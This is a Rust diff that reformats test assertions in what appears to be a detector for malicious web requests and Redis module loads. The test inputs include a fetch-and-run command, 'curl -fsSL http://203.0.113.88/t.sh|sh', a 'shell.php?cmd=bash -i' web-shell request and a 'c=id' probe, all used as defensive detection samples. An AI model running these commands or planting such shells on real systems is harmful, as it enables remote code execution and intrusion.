@@ -153,7 +153,9 @@ mod tests {
         assert_eq!(model.service_logs.len(), 1);
         let l = &model.service_logs[0];
         assert_eq!(l.format, LogFormat::Redis);
-        assert!(matches!(&l.log.event, LogEvent::RedisModuleLoaded { name, .. } if name == "system"));
+        assert!(
+            matches!(&l.log.event, LogEvent::RedisModuleLoaded { name, .. } if name == "system")
+        );
         assert_eq!(l.location(), "/var/log/app/custom-redis.log:1");
     }
 
@@ -164,10 +166,18 @@ mod tests {
             b"/mgmt/cmd.jsp?x=1&c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
             &iocs,
         );
-        assert_eq!(cmd.as_deref(), Some(&b"curl -fsSL http://203.0.113.88/t.sh|sh"[..]));
+        assert_eq!(
+            cmd.as_deref(),
+            Some(&b"curl -fsSL http://203.0.113.88/t.sh|sh"[..])
+        );
         assert!(super::request_command(b"/shell.php?cmd=bash+-i", &iocs).is_some());
-        assert!(super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none());
+        assert!(
+            super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none()
+        );
         assert!(super::request_command(b"/products/7", &iocs).is_none());
-        assert_eq!(super::request_path(b"/a%20b/x.php?c=id"), b"/a b/x.php".to_vec());
+        assert_eq!(
+            super::request_path(b"/a%20b/x.php?c=id"),
+            b"/a b/x.php".to_vec()
+        );
     }
 }
